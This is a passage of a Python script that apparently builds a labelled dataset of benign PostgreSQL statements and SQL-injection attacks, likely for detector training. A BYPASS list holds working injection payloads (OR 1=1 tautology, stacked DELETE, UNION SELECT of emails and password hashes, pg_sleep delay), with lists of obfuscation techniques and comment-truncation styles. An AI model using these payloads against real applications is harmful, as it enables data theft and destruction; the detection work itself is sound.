 ("partition_prune", "CREATE TABLE rlp16_2 PARTITION OF rlp16 FOR VALUES FROM (1) TO (10) PARTITION BY LIST (b)"), ("partition_prune", "CREATE TABLE hp16 (a int, b text) PARTITION BY HASH (a, b)"),
 ("partition_prune", "CREATE TABLE hp16_0 PARTITION OF hp16 FOR VALUES WITH (MODULUS 4, REMAINDER 0)"), ("alter_table", "ALTER TABLE rlp16 DETACH PARTITION rlp16_1 CONCURRENTLY"),
 ("alter_table", "ALTER TABLE rlp16 ATTACH PARTITION rlp16_1 FOR VALUES FROM (MINVALUE) TO (1)"), ("alter_table", "ALTER TABLE atacc16 ADD CONSTRAINT atacc16_chk CHECK (a > 0) NOT VALID"),
 ("alter_table", "ALTER TABLE atacc16 VALIDATE CONSTRAINT atacc16_chk"), ("alter_table", "ALTER TABLE atacc16 ALTER COLUMN b SET COMPRESSION pglz"),
 ("alter_table", "ALTER TABLE atacc16 ALTER COLUMN a SET STATISTICS 150"), ("alter_table", "ALTER TABLE atacc16 REPLICA IDENTITY FULL"), ("alter_table", "ALTER TABLE atacc16 SET (fillfactor = 70)"),
 ("identity", "CREATE TABLE itest16 (a int GENERATED ALWAYS AS IDENTITY (START WITH 7 INCREMENT BY 5), b text)"), ("identity", "INSERT INTO itest16 (b) VALUES ('from default')"),
 ("identity", "INSERT INTO itest16 OVERRIDING SYSTEM VALUE VALUES (10, 'xyz')"), ("identity", "ALTER TABLE itest16 ALTER COLUMN a RESTART WITH 100"),
 ("identity", "ALTER TABLE itest16 ALTER COLUMN a SET GENERATED BY DEFAULT"), ("identity", "SELECT pg_get_serial_sequence('itest16', 'a')"),
 ("generated", "CREATE TABLE gtest16 (a int PRIMARY KEY, b int GENERATED ALWAYS AS (a * 2) STORED)"), ("generated", "INSERT INTO gtest16 VALUES (1), (2, DEFAULT)"),
 ("generated", "SELECT a, b FROM gtest16 ORDER BY a"), ("generated", "ALTER TABLE gtest16 ALTER COLUMN b DROP EXPRESSION"),
 ("rowtypes", "SELECT ROW(1, 2) < ROW(1, 3) AS true, ROW(1, 2) IS DISTINCT FROM ROW(1, NULL) AS true"), ("rowtypes", "SELECT (ROW(1, 'x')::record).f1 IS NULL"),
 ("rowtypes", "SELECT ROW(1, 2, 3) = ANY (ARRAY[ROW(1, 2, 3), ROW(4, 5, 6)])"), ("rowtypes", "CREATE TYPE quad16 AS (c1 complex16, c2 complex16)"),
 ("rangefuncs", "SELECT * FROM ROWS FROM (generate_series(1, 3), unnest(ARRAY['a', 'b'])) WITH ORDINALITY AS t(n, l, o)"),
 ("rangefuncs", "SELECT * FROM unnest(ARRAY[10, 20], ARRAY['x', 'y', 'z']) AS u(n, s)"), ("rangefuncs", "SELECT * FROM generate_series(now(), now() + interval '3 days', interval '1 day') WITH ORDINALITY"),
 ("create_procedure", "CREATE PROCEDURE ptest16(INOUT a int, b int DEFAULT 5) LANGUAGE plpgsql AS $$ BEGIN a := a + b; END $$"), ("create_procedure", "CALL ptest16(2)"),
 ("create_procedure", "CALL ptest16(a => 3, b => 4)"), ("create_procedure", "CREATE PROCEDURE ptest16b(x text) LANGUAGE sql BEGIN ATOMIC INSERT INTO cp_test16 VALUES (1, x); END"),
 ("create_procedure", "DROP PROCEDURE ptest16(int, int)"), ("transactions", "BEGIN TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE"),
 ("transactions", "SAVEPOINT one"), ("transactions", "ROLLBACK TO SAVEPOINT one"), ("transactions", "RELEASE SAVEPOINT one"), ("transactions", "COMMIT AND CHAIN"),
 ("transactions", "SHOW transaction_read_only"), ("privileges", "GRANT SELECT (a, b), UPDATE (b) ON atest16 TO regress_priv_user2"),
 ("privileges", "REVOKE ALL ON SCHEMA pub_test16 FROM PUBLIC"), ("privileges", "ALTER DEFAULT PRIVILEGES FOR ROLE regress_priv_user1 REVOKE EXECUTE ON FUNCTIONS FROM PUBLIC"),
 ("privileges", "SELECT has_column_privilege('atest16', 'a', 'SELECT')"), ("privileges", "SET SESSION AUTHORIZATION regress_priv_user1"), ("privileges", "RESET SESSION AUTHORIZATION"),
 ("rules", "CREATE RULE rtest16_ins AS ON INSERT TO rtest16_v DO INSTEAD INSERT INTO rtest16_t VALUES (new.a, new.b)"), ("rules", "CREATE RULE rtest16_nothing AS ON DELETE TO rtest16_t DO INSTEAD NOTHING"),
 ("rules", "SELECT pg_get_ruledef(oid) FROM pg_rewrite WHERE rulename = 'rtest16_ins'"), ("triggers", "CREATE TRIGGER trig16 AFTER INSERT ON trig16_t REFERENCING NEW TABLE AS newtab FOR EACH STATEMENT EXECUTE FUNCTION trig16_fn()"),
 ("triggers", "CREATE TRIGGER trig16_when BEFORE UPDATE ON trig16_t FOR EACH ROW WHEN (OLD.* IS DISTINCT FROM NEW.*) EXECUTE FUNCTION trig16_fn()"),
 ("triggers", "ALTER TABLE trig16_t DISABLE TRIGGER trig16"), ("matview", "CREATE MATERIALIZED VIEW mvtest16 AS SELECT type, sum(amt) AS totamt FROM mvtest16_t GROUP BY type WITH NO DATA"),
 ("matview", "CREATE UNIQUE INDEX mvtest16_type ON mvtest16 (type)"), ("matview", "REFRESH MATERIALIZED VIEW CONCURRENTLY mvtest16"),
 ("sequence", "CREATE SEQUENCE seq16 AS smallint INCREMENT BY -2 MINVALUE -100 MAXVALUE 10 START 10 CYCLE"), ("sequence", "ALTER SEQUENCE seq16 RESTART WITH 4 NO CYCLE"),
 ("sequence", "SELECT nextval('seq16'), currval('seq16'), setval('seq16', 2, false)"), ("collate", "SELECT 'Å' < 'B' COLLATE \"C\", 'a' = 'A' COLLATE \"und-x-icu\""),
 ("collate", "CREATE COLLATION case16_insensitive (provider = icu, locale = '@colStrength=secondary', deterministic = false)"),
 ("stats_ext", "CREATE STATISTICS ab16_stats (ndistinct, dependencies, mcv) ON a, b FROM ab16"), ("stats_ext", "CREATE STATISTICS ab16_expr ON (a * 2), upper(b) FROM ab16"),
 ("stats_ext", "ALTER STATISTICS ab16_stats SET STATISTICS 500"), ("brin", "CREATE INDEX brin16_idx ON brintest16 USING brin (ts timestamp_minmax_multi_ops(values_per_range = 16)) WITH (pages_per_range = 32)"),
 ("hash_index", "CREATE INDEX hash16_idx ON hash16_tbl USING hash (random)"), ("create_index", "CREATE INDEX ON tenk1 (unique1) INCLUDE (two, four) WHERE ten < 5"),
 ("create_index", "CREATE UNIQUE INDEX uidx16 ON uidx16_t (a) NULLS NOT DISTINCT"), ("event_trigger", "CREATE EVENT TRIGGER regress_evt16 ON ddl_command_start WHEN TAG IN ('CREATE TABLE', 'DROP TABLE') EXECUTE PROCEDURE test_event_trigger16()"),
 ("event_trigger", "ALTER EVENT TRIGGER regress_evt16 DISABLE"), ("foreign_data", "CREATE FOREIGN DATA WRAPPER foo16 HANDLER test_fdw_handler VALIDATOR postgresql_fdw_validator"),
 ("foreign_data", "CREATE SERVER s16 TYPE 'oracle' VERSION '8.1' FOREIGN DATA WRAPPER foo16 OPTIONS (host 'a', dbname 'b')"), ("foreign_data", "CREATE USER MAPPING FOR current_user SERVER s16 OPTIONS (user 'secret')"),
 ("foreign_data", "IMPORT FOREIGN SCHEMA s1 LIMIT TO (t1, t2) FROM SERVER s16 INTO public"), ("vacuum", "VACUUM (PARALLEL 2, INDEX_CLEANUP off, TRUNCATE false) vac16"),
 ("vacuum", "VACUUM (SKIP_LOCKED, FREEZE) vac16 (a)"), ("vacuum", "ANALYZE (SKIP_LOCKED) vac16"), ("cluster", "CLUSTER clstr16 USING clstr16_idx"),
 ("reindex", "REINDEX (VERBOSE) INDEX CONCURRENTLY reidx16"), ("create_view", "CREATE VIEW rw16_view AS SELECT a, b FROM base16 WHERE a < 10 WITH LOCAL CHECK OPTION"),
 ("create_view", "CREATE OR REPLACE RECURSIVE VIEW nums16 (n) AS VALUES (1) UNION ALL SELECT n + 1 FROM nums16 WHERE n < 5"),
 ("insert_conflict", "INSERT INTO insertconflicttest16 VALUES (1, 'Apple') ON CONFLICT ON CONSTRAINT ict16_pkey DO UPDATE SET fruit = excluded.fruit WHERE insertconflicttest16.fruit != 'Cherry'"),
 ("insert_conflict", "INSERT INTO insertconflicttest16 AS i VALUES (2, 'Orange') ON CONFLICT (key) DO UPDATE SET fruit = i.fruit || excluded.fruit RETURNING *"),
 ("returning", "UPDATE foo16 SET f2 = lower(f2), f3 = f3 + 1 WHERE f1 IN (SELECT f1 FROM foo16 LIMIT 2) RETURNING foo16.*, f1 + f3 AS sum13"),
 ("returning", "DELETE FROM foo16 USING bar16 WHERE foo16.f1 = bar16.f1 RETURNING foo16.f1, bar16.*"),
 ("with", "WITH t AS (DELETE FROM y16 WHERE a <= 10 RETURNING *) INSERT INTO y16 SELECT -a FROM t RETURNING *"),
 ("with", "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t WHERE n < 10) SEARCH DEPTH FIRST BY n SET ord SELECT * FROM t ORDER BY ord"),
 ("window", "SELECT sum(unique1) OVER (ORDER BY four GROUPS BETWEEN 1 PRECEDING AND 1 FOLLOWING), unique1, four FROM tenk1 WHERE unique1 < 10"),
 ("window", "SELECT ten, sum(ten) OVER w1, count(*) OVER w2 FROM tenk1 WHERE unique2 < 10 WINDOW w1 AS (PARTITION BY four), w2 AS (w1 ORDER BY ten)"),
 ("tablesample", "SELECT id FROM test_tablesample16 TABLESAMPLE BERNOULLI (50) REPEATABLE (0)"), ("domain", "CREATE DOMAIN posint16 AS int CHECK (VALUE > 0) NOT NULL"),
 ("domain", "ALTER DOMAIN posint16 ADD CONSTRAINT lt100 CHECK (VALUE < 100) NOT VALID"), ("enum", "CREATE TYPE rainbow16 AS ENUM ('red', 'orange', 'yellow', 'green')"),
 ("enum", "ALTER TYPE rainbow16 ADD VALUE IF NOT EXISTS 'blue' AFTER 'green'"), ("enum", "SELECT enum_range(NULL::rainbow16), enum_first('yellow'::rainbow16)"),
 ("xml", "SELECT xmlconcat(xmlcomment('hello'), xmlelement(NAME qux, 'foo'))"), ("xml", "SELECT xmlparse(document '<abc>x</abc>')"),
 ("xml", "SELECT * FROM XMLTABLE('/rows/row' PASSING '<rows><row><a>1</a></row></rows>' COLUMNS a int PATH 'a')"), ("xml", "SELECT xmlexists('//town[text() = ''Toronto'']' PASSING BY REF '<towns><town>Toronto</town></towns>')"),
 ("json_encoding", "SELECT '\"\\u00e9\"'::json"), ("json_encoding", "SELECT jsonb '{\"a\": \"\\ud83d\\ude00\"}' ->> 'a'"), ("jsonb_jsonpath", "SELECT jsonb_path_query('[1, 2, 3]', '$[*] ? (@ > $x)', '{\"x\": 1}')"),
 ("jsonb_jsonpath", "SELECT jsonb '{\"a\": 12}' @? '$.a ? (@ like_regex \"^1\")'"), ("jsonb_jsonpath", "SELECT jsonb_path_match('{\"a\": 1}', 'exists($.a)')"),
 ("strings", "SELECT format('Hello %s, %1$s', 'World')"), ("strings", "SELECT format('%-10s|', 'left'), format('%10s|', 'right')"), ("strings", "SELECT format('INSERT INTO %I VALUES(%L)', 'mytab', E'O\\'Reilly')"),
 ("strings", "SELECT 'abc' ~ 'a.c', 'abc' SIMILAR TO '%(b|d)%', substring('Thomas' similar '%#\"o_a#\"_' escape '#')"), ("strings", "SELECT U&'d\\0061t\\+000061' AS \"data\""),
 ("strings", "SELECT E'\\\\xDeAdBeEf'::bytea, '\\x1234'::bytea"), ("interval", "SELECT justify_days(interval '35 days'), justify_hours(interval '27 hours')"),
 ("interval", "SELECT interval '1 day 2 hours' * 2.5, interval '3 hours' / 7"), ("interval", "SELECT extract(epoch FROM interval '1 year 2 months')"),
 ("interval", "SELECT interval '-1 days +02:03' , interval 'P1Y2M3DT4H5M6S'"), ("horology", "SELECT timestamptz '2025-03-30 02:30 Europe/London' AT TIME ZONE 'UTC'"),
 ("horology", "SELECT date_part('isodow', date '2025-06-15'), to_char(date '2025-06-15', 'FMDay, DDth Month')"), ("numeric", "SELECT 12345678901234567890.123 * 0.0001, trim_scale(1.000)"),
 ("numeric", "SELECT 'NaN'::numeric = 'NaN'::numeric, 'Infinity'::numeric > 1e1000"), ("float8", "SELECT '-Infinity'::float8, 'nan'::float8, 1e-320::float8"),
 ("bit", "SELECT B'1010' # B'0110', B'1010' << 2, get_bit(B'1010', 1)"), ("tsearch", "SELECT ts_headline('english', 'The quick brown fox', to_tsquery('english', 'fox'), 'StartSel=<b>, StopSel=</b>')"),
 ("tsearch", "SELECT to_tsvector('english', 'salted kelp') @@ phraseto_tsquery('english', 'salted kelp')"), ("copy2", "COPY x16 FROM STDIN WITH (FORMAT csv, FORCE_NOT_NULL (b), FORCE_NULL (c))"),
 ("copy2", "COPY x16 (a, b) TO STDOUT WITH (FORMAT csv, QUOTE '''', ESCAPE E'\\\\')"), ("misc_functions", "SELECT pg_get_viewdef('rw16_view'::regclass, true)"),
 ("misc_functions", "SELECT num_nulls(VARIADIC ARRAY[NULL, 1, NULL]::int[]), pg_typeof(1.5)"), ("misc_functions", "SELECT * FROM pg_get_keywords() WHERE word = 'publication'"),
 ("arrays", "SELECT ('{1,2,3,4,5}'::int[])[2:4], ('{{1,2},{3,4}}'::int[])[1:1][2]"), ("arrays", "SELECT array_fill(7, ARRAY[2, 3], ARRAY[2, 2])"),
 ("arrays", "UPDATE arrtest16 SET a[1:2] = '{16,25}', b[2] = 'x' WHERE array_dims(a) IS NOT NULL"), ("groupingsets", "SELECT a, b, grouping(a, b), sum(c) FROM gstest16 GROUP BY GROUPING SETS ((a, b), (a), ()) ORDER BY 1, 2"),
 ("groupingsets", "SELECT a, b, sum(c) FROM gstest16 GROUP BY CUBE (a, (b, c)) HAVING sum(c) > 0"), ("select_distinct", "SELECT DISTINCT ON (four) four, ten FROM tenk1 ORDER BY four, ten DESC"),
 ("join", "SELECT * FROM j16a FULL JOIN j16b USING (id) AS x WHERE x.id IS NOT NULL"), ("join", "SELECT * FROM int4_tbl i CROSS JOIN LATERAL (SELECT i.f1 + 1 AS g) ss WHERE ss.g > 0"),
 ("notify", "NOTIFY notify_async16, 'sample message1'"), ("notify", "SELECT pg_notification_queue_usage()"), ("prepare", "PREPARE q16(int, text) AS SELECT * FROM tenk1 WHERE unique1 = $1 AND stringu1 = $2"),
 ("prepare", "EXECUTE q16(1, 'AAAAxx')"), ("prepare", "DEALLOCATE q16"), ("set", "SET LOCAL search_path TO pub_test16, public"), ("set", "RESET ALL"),
]


def regress_rows(r):
    out, add = regress_list("regress16", REGRESS_FIXED)
    for _ in range(30):
        n = r.randint(1, 99)
        add("publication", r.choice(["CREATE PUBLICATION testpub16_%d FOR TABLE testpub16_tbl%d" % (n, r.randint(1, 5)),
                                     "ALTER PUBLICATION testpub16_%d SET (publish = '%s')" % (n, ", ".join(r.sample(["insert", "update", "delete", "truncate"], r.randint(1, 4)))),
                                     "CREATE PUBLICATION testpub16_%d FOR TABLE testpub16_tbl%d WHERE (a %s %d)" % (n, r.randint(1, 5), r.choice(["<", ">", "=", "<>"]), r.randint(0, 50)),
                                     "ALTER PUBLICATION testpub16_%d ADD TABLES IN SCHEMA pub_test16_%d" % (n, r.randint(1, 3)), "DROP PUBLICATION testpub16_%d" % n]))
    for _ in range(25):
        lo = r.randint(0, 90)
        add("partition_prune", r.choice(["CREATE TABLE rlp16_p%d PARTITION OF rlp16 FOR VALUES FROM (%d) TO (%d)" % (lo, lo, lo + r.randint(1, 10)),
                                         "EXPLAIN (COSTS OFF) SELECT * FROM rlp16 WHERE a %s %d" % (r.choice(["<", "<=", "=", ">", ">="]), lo),
                                         "EXPLAIN (COSTS OFF) SELECT * FROM rlp16 WHERE a IN (%s)" % ids(r, r.randint(2, 4), 100),
                                         "CREATE TABLE hp16_%d PARTITION OF hp16 FOR VALUES WITH (MODULUS 8, REMAINDER %d)" % (lo % 8, lo % 8),
                                         "EXPLAIN (COSTS OFF) SELECT * FROM lp16 WHERE a %s '%s'" % (r.choice(["=", "<>", "<", ">"]), r.choice("abcdg"))]))
    for _ in range(30):
        a, b = r.randint(-50, 50), r.randint(1, 50)
        add("interval", r.choice(["SELECT interval '%d days %d hours' + interval '%d minutes'" % (a, b, r.randint(0, 59)),
                                  "SELECT make_interval(years => %d, months => %d, days => %d)" % (r.randint(0, 3), r.randint(0, 11), b),
                                  "SELECT justify_interval(interval '%d days %d hours')" % (a, b * 5), "SELECT interval '%d:%02d:%02d' * %d" % (b, r.randint(0, 59), r.randint(0, 59), r.randint(2, 9)),
                                  "SELECT date '%s' + interval '%d days'" % (rdate(r), b), "SELECT timestamp '%s' - interval '%d hours'" % (rts(r), b),
                                  "SELECT extract(%s FROM interval '%d days %d hours')" % (r.choice(["hour", "day", "epoch", "minute"]), b, r.randint(0, 23))]))
    for _ in range(25):
        w = rword(r, r.randint(2, 7))
        add("strings", r.choice(["SELECT format('%%I', '%s')" % w.capitalize(), "SELECT format('%%L', '%s''%s')" % (w, rword(r, 2)), "SELECT format('%%3$s %%1$s %%2$s', 'a', 'b', '%s')" % w,
                                 "SELECT quote_literal(E'%s\\\\%s')" % (w, rword(r, 2)), "SELECT split_part('%s.%s.%s', '.', %d)" % (w, w[::-1], w, r.choice([1, 2, -1])),
                                 "SELECT string_to_array('%s', '%s')" % (",".join(w), ","), "SELECT overlay('%s' placing 'xx' from %d for 2)" % (w, r.randint(1, len(w))),
                                 "SELECT left('%s', %d), right('%s', %d), lpad('%s', 10, '*')" % (w, r.randint(-3, 5), w, r.randint(-3, 5), w)]))
    for _ in range(25):
        n = r.randint(3, 9)
        arr = "'{%s}'::int[]" % ",".join(str(r.randint(0, 99)) for _ in range(n))
        add("arrays", r.choice(["SELECT (%s)[%d:%d]" % (arr, r.randint(1, 3), r.randint(3, n)), "SELECT array_position(%s, %d)" % (arr, r.randint(0, 99)),
                                "SELECT %s || %d" % (arr, r.randint(0, 9)), "SELECT array_ndims(%s), array_upper(%s, 1)" % (arr, arr),
                                "SELECT * FROM unnest(%s) WITH ORDINALITY AS t(v, i)" % arr,
                                "SELECT %d = ANY(%s), %d = ALL(%s)" % (r.randint(0, 99), arr, r.randint(0, 99), arr), "SELECT array_remove(%s, %d)" % (arr, r.randint(0, 99))]))
    for _ in range(25):
        k = r.randint(1, 99)
        add("jsonb", r.choice(["SELECT '{\"a\": %d, \"b\": [1, 2]}'::jsonb -> 'b' ->> %d" % (k, r.randint(0, 2)), "SELECT jsonb_build_object('k%d', %d) || '{\"z\": null}'" % (k, k),
                               "SELECT jsonb_set('{\"a\": {\"b\": %d}}', '{a,b}', '%d')" % (k, k + 1), "SELECT jsonb_path_query('{\"x\": [%d, %d]}', '$.x[*] ? (@ > %d)')" % (k, k + 5, k),
                               "SELECT '[%d, 2, 3]'::jsonb @> '[%d]'" % (k, k), "SELECT jsonb_typeof('%d.5'::jsonb), jsonb_array_length('[1, %d]')" % (k, k),
                               "SELECT * FROM jsonb_to_record('{\"a\": %d, \"b\": \"t%d\"}') AS x(a int, b text)" % (k, k)]))
    for _ in range(25):
        t = "tenk1"
        add("window", r.choice(["SELECT four, ten, %s OVER w FROM %s WHERE unique2 < %d WINDOW w AS (PARTITION BY four ORDER BY ten)" % (r.choice(["rank()", "dense_rank()", "percent_rank()", "cume_dist()", "ntile(3)", "row_number()"]), t, r.randint(5, 50)),
                                "SELECT ten, sum(ten) OVER (ORDER BY ten GROUPS BETWEEN %d PRECEDING AND CURRENT ROW) FROM %s WHERE unique2 < %d" % (r.randint(1, 3), t, r.randint(5, 40)),
                                "SELECT four, lag(ten, %d, 0) OVER (PARTITION BY four ORDER BY ten) FROM %s WHERE unique2 < %d" % (r.randint(1, 3), t, r.randint(5, 40)),
                                "SELECT nth_value(four, %d) OVER (ORDER BY four ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING) FROM %s WHERE unique2 < %d" % (r.randint(1, 4), t, r.randint(5, 40))]))
    for _ in range(25):
        a = r.randint(1, 9)
        add("groupingsets", r.choice(["SELECT a, b, sum(v) FROM gstest16 GROUP BY ROLLUP (a, b) HAVING sum(v) > %d" % a,
                                      "SELECT a, grouping(a), count(*) FROM gstest16 GROUP BY GROUPING SETS ((a), ()) ORDER BY %d" % r.randint(1, 3),
                                      "SELECT a, b, c, sum(v) FROM gstest16 GROUP BY a, CUBE (b, c) ORDER BY a, b, c LIMIT %d" % r.randint(5, 30),
                                      "SELECT a, sum(v) FILTER (WHERE v > %d) FROM gstest16 GROUP BY DISTINCT ROLLUP (a, b)" % a]))
    for _ in range(20):
        n = r.randint(1, 50)
        add("insert_conflict", r.choice(["INSERT INTO insertconflicttest16 VALUES (%d, '%s') ON CONFLICT DO NOTHING" % (n, rword(r, 5).capitalize()),
                                         "INSERT INTO insertconflicttest16 VALUES (%d, '%s') ON CONFLICT (key) DO UPDATE SET fruit = excluded.fruit" % (n, rword(r, 5).capitalize()),
                                         "INSERT INTO insertconflicttest16 VALUES (%d, 'x'), (%d, 'y') ON CONFLICT ON CONSTRAINT ict16_pkey DO NOTHING RETURNING key" % (n, n + 1)]))
    for _ in range(20):
        n = r.randint(1, 999)
        add("rangefuncs", r.choice(["SELECT * FROM generate_series(%d, %d, %d) WITH ORDINALITY AS g(v, o)" % (n, n + r.randint(5, 50), r.randint(1, 5)),
                                    "SELECT * FROM ROWS FROM (generate_series(1, %d), generate_series(1, %d)) AS t(a, b)" % (r.randint(2, 6), r.randint(2, 6)),
                                    "SELECT * FROM unnest(ARRAY[%d, %d]) WITH ORDINALITY AS u(x, ord) WHERE ord > 1" % (n, n + 1)]))
    for _ in range(20):
        s = rword(r, 5)
        add("sequence", r.choice(["CREATE SEQUENCE seq16_%s START %d INCREMENT %d" % (s, r.randint(1, 100), r.randint(1, 10)), "SELECT nextval('seq16_%s')" % s,
                                  "ALTER SEQUENCE seq16_%s MAXVALUE %d CACHE %d" % (s, r.randint(1000, 99999), r.randint(1, 20)), "SELECT setval('seq16_%s', %d, %s)" % (s, r.randint(1, 500), r.choice(["true", "false"]))]))
    for _ in range(20):
        d = rdate(r)
        add("horology", r.choice(["SELECT date '%s' - date '2000-01-01'" % d, "SELECT to_char(date '%s', 'YYYY-MM-DD Dy IW')" % d,
                                  "SELECT date_trunc('%s', timestamp '%s 12:34:56')" % (r.choice(["week", "month", "quarter", "year", "decade"]), d),
                                  "SELECT (date '%s', date '%s') OVERLAPS (date '%s', date '%s')" % (d, rdate(r), rdate(r), rdate(r)), "SELECT date_bin('15 minutes', timestamp '%s 10:%02d', timestamp '2001-01-01')" % (d, r.randint(0, 59))]))
    return out


# ---------------------------------------------------------------- assembly
OBF_BASES = ["tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery",
             "plpgsql_do_exec", "dollar_quote", "e_escape", "sqlmap", "sqlmap"]
KIND_FAMILY = {"lot": "input_formatted", "date": "input_formatted", "ts": "input_formatted", "csv": "input_formatted", "pipe": "input_formatted",
               "interval": "input_formatted", "pinterval": "input_formatted", "duration": "input_formatted", "like": "input_formatted",
               "hexpre": "input_formatted", "ratio": "input_numeric_string", "count": "input_numeric_string", "unit": "input_plain", "jkey": "input_plain",
               "json": "input_json_text", "ring": "input_formatted", "cuid": "input_formatted", "email": "input_url_email", "arr": "input_formatted",
               "uuid": "input_formatted", "relname": "input_identifier", "jrel": "input_identifier", "slot": "input_identifier", "pubops": "input_plain", "suffix": "input_formatted"}
TRUNC_STYLES = [("dashdash_lt", "--<"), ("dashdash_gt", "-->"), ("dashdash_brace", "--{"), ("dashdash_close_brace", "--}"), ("dashdash_question", "--?"),
                ("dashdash_colon", "--:"), ("dashdash_comma", "--,"), ("dashdash_zero", "--0"), ("dashdash_backtick", "--`"), ("dashdash_block_open", "--/*"),
                ("dashdash_block_close", "--*/"), ("nested_block_open", "/*/*"), ("semicolon_dashdash_semicolon", ";--;"), ("dashdash_space_semicolon", "-- ;"),
                ("dashdash_em_dash", "--\u2014"), ("dashdash_ideographic_space", "--\u3000"), ("dashdash_slash", "--/"), ("dashdash_word_upper", None)]
# the application escapes quotes the wrong way for its literal
BYPASS = [("addslashes_into_standard_string", "t16_findbysql_dive_log", "a", "Blue Hole' OR 1=1 -- ", addslashes),
          ("doubling_into_e_string", "t16_gorm_cooper_note", "c", "\\'); DELETE FROM cooper_notes WHERE true; -- ", double_quotes),
          ("backslash_quote_into_standard_string", "t16_laravel_commission_quote", "b", "x' UNION SELECT NULL, email, pw_hash FROM mosaic_clients -- ", backslash_quotes),
          ("addslashes_into_standard_string", "t16_prisma_roll_update", "a", "Rodinal', \"ownerId\" = 1 -- ", addslashes),
          ("doubling_into_e_string", "t16_gorm_cooper_note", "c", "\\'); SELECT pg_sleep(7); -- ", double_quotes),
          ("addslashes_into_standard_string", "t16_sequel_ends", "b", "Rink Muirhead')) OR (('1'='1", addslashes)]


def truncation_style(r):
    """(name, comment) cutting off the rest of the statement."""
    style, c = r.choice(TRUNC_STYLES)
    return style, c if c is not None else "--" + rword(r, r.randint(2, 5), upper=True)


TRUNCATION = {"style": truncation_style, "origs": ["admin", "", "staff", "0"], "spaces": ["", " ", "\t", "\n  "]}
STRICT_INT = {("t16_gorm_hoop_repairs_replay", "b"), ("t16_psycopg_clock_window", "a"), ("t16_psycopg_clock_window", "b"), ("t16_ecto_salinity_days", "b"),
              ("t16_laravel_panel_slice", "a"), ("t16_laravel_panel_slice", "b"), ("t16_springnative_officials", "a"), ("t16_partman_create_parent", "c"),
              ("t16_partman_partition_data", "b"), ("t16_repl_slot_peek", "b"), ("t16_springnative_penalties", "b"), ("t16_pgp_entries_values", "d")}


def numeric_value(r):
    return r.choice([str(r.randint(0, 9999)), str(r.randint(1, 40)), "%d.%02d" % (r.randint(0, 900), r.randint(0, 99)), str(r.randint(10 ** 6, 10 ** 7)),
                     "0", "-%d" % r.randint(1, 60), "%d.0" % r.randint(1, 99), "%de%d" % (r.randint(1, 9), r.randint(1, 4))])


def numeric_refused(tpl, slot, val):
    """No sign, fraction, exponent or long number where only a small count or an id goes."""
    si = slot_info(tpl, slot)
    strict = si["in_limit"] or (tpl[0], slot) in STRICT_INT or si["slice"]
    return strict and (val.startswith("-") or "." in val or "e" in val or len(val) > 6)


def formatted_value(r):
    return r.choice(["SL-%04d/%s" % (r.randint(0, 9999), r.choice("ABC")), "GB%02dN%05d" % (r.randint(20, 26), r.randint(0, 99999)),
                     "%d°%02d′%02d″%s" % (r.randint(0, 89), r.randint(0, 59), r.randint(0, 59), r.choice("NS")), "rgb(%d, %d, %d)" % (r.randint(0, 255), r.randint(0, 255), r.randint(0, 255)),
                     "NY %04d %04d" % (r.randint(0, 9999), r.randint(0, 9999)), "%d×%d mm" % (r.randint(5, 40), r.randint(5, 40)),
                     "%d-W%02d" % (r.randint(2020, 2027), r.randint(1, 52)), "f/%s @ 1/%d" % (r.choice(["2.8", "5.6", "8", "11", "16"]), r.choice([60, 125, 250, 500]))])


def input_value(r, fam, groups):
    """(template, slot, value) of one benign input of family fam, or None."""
    kinds = [(t, k) for t, k in groups.typed if KIND_FAMILY[kind(t, k)] == fam]
    if kinds and r.random() < 0.45:
        return typed_input(r, kinds, fam, typed_value)
    if fam == "input_numeric":
        return number_input(r, groups.numeric, [", ", ",", " ,", ",  "], 90000, 7, numeric_value, numeric_refused)
    if fam == "input_identifier":
        return identifier_input(r, groups.identifier, CANON)
    return text_input(r, groups.string, fam, POOLS, SENTS, formatted_value, 0.3, ("input_plain", "input_unicode", "input_apostrophe_names", "input_sql_words"))


def main():
    corpus = SlotCorpus(random.Random(SEED), load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, dollar_safe(TAG, runs_into=True))
    corpus.attacks(SQLMAP, hand, OBF_BASES, obfuscate, TRUNCATION, BYPASS)
    corpus.benign_rows(input_value, complex_gens(), regress_rows)
    corpus.write(HERE, "f16-%06d", "sixteenth")


if __name__ == "__main__":
    main()
